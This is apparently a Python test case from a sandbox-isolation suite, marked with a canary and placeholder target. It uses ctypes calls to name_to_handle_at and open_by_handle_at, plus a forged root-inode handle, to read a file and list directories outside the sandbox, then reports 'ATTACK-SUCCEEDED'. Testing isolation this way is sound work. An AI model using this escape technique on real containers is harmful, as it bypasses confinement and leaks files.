"""Opens outside files by handle (name_to_handle_at, open_by_handle_at), which looks at no path.

base: unsolved
max-score: 0
canary: outside-file, leak
"""
# %% q1
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


loot = []
for path in (b"@OUTSIDE_FILE@", b"/", b"/tmp"):
    handle, mount = Handle(bytes=128), ctypes.c_int()
    if libc.name_to_handle_at(-100, path, ctypes.byref(handle), ctypes.byref(mount), 0) == 0:
        for start in [".", "/", "/proc/self/root"]:
            try:
                base = os.open(start, os.O_RDONLY)
            except OSError:
                continue
            fd = libc.open_by_handle_at(base, ctypes.byref(handle), os.O_RDONLY)
            if fd >= 0:
                loot.append(os.read(fd, 4096).decode() if path.endswith(b"@OUTSIDE_FILE@") else str(os.listdir(fd)))
# The root inode of many file systems is 2: a made-up handle needs no path at all.
guess = Handle(bytes=8, kind=1)
guess.data[0] = 2
fd = libc.open_by_handle_at(os.open("/", os.O_RDONLY), ctypes.byref(guess), os.O_RDONLY)
if fd >= 0:
    loot.append(str(os.listdir(fd)))
    raise RuntimeError("-".join(["ATTACK", "SUCCEEDED"]) + ": opened by handle " + str(loot))
raise RuntimeError(str(loot))
